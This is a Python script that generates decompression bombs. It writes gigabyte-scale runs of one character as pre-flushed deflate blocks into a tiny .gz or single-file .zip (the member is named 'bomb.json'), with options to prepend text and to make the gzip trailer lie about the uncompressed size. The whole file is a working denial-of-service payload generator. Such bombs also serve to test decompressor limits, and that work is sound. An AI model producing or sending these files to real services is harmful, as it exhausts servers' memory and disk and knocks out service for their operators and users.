# Write a decompression bomb: MB mebibytes of one character, deflated,
# as a .gz or as the only member of a .zip, in about 1 KB per MB.
#
#	python3 bomb.py gz|zip CHAR MB FILE [PREFIX [SIZE]]
#
# PREFIX (text) comes first in the data; SIZE, when given, is the size
# the gzip trailer claims instead of the true one (a trailer that lies).
# Each mebibyte is one deflate block, flushed so that it stands alone,
# so the blocks are copied, not compressed again.
import struct
import sys
import zlib

kind, ch, mb, out = sys.argv[1], sys.argv[2].encode(), int(sys.argv[3]), \
    sys.argv[4]
prefix = sys.argv[5].encode() if len(sys.argv) > 5 else b''
blk = ch * (1 << 20)
c = zlib.compressobj(9, zlib.DEFLATED, -15)
head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
c = zlib.compressobj(9, zlib.DEFLATED, -15)
one = c.compress(blk) + c.flush(zlib.Z_FULL_FLUSH)
data = head + one * mb + b'\x03\x00'	# and an empty final block
crc = zlib.crc32(prefix)
for i in range(mb):
	crc = zlib.crc32(blk, crc)
size = len(prefix) + (mb << 20)
claim = int(sys.argv[6]) if len(sys.argv) > 6 else size
with open(out, 'wb') as f:
	if kind == 'gz':
		f.write(b'\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03' + data +
		    struct.pack('<II', crc, claim & 0xffffffff))
	else:
		name = b'bomb.json'
		lh = struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 8, 0, 0x5821,
		    crc, len(data), size, len(name), 0)
		cd = struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 8,
		    0, 0x5821, crc, len(data), size, len(name), 0, 0, 0, 0, 0, 0)
		eocd = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 1, 1,
		    len(cd) + len(name), len(lh) + len(name) + len(data), 0)
		f.write(lh + name + data + cd + name + eocd)
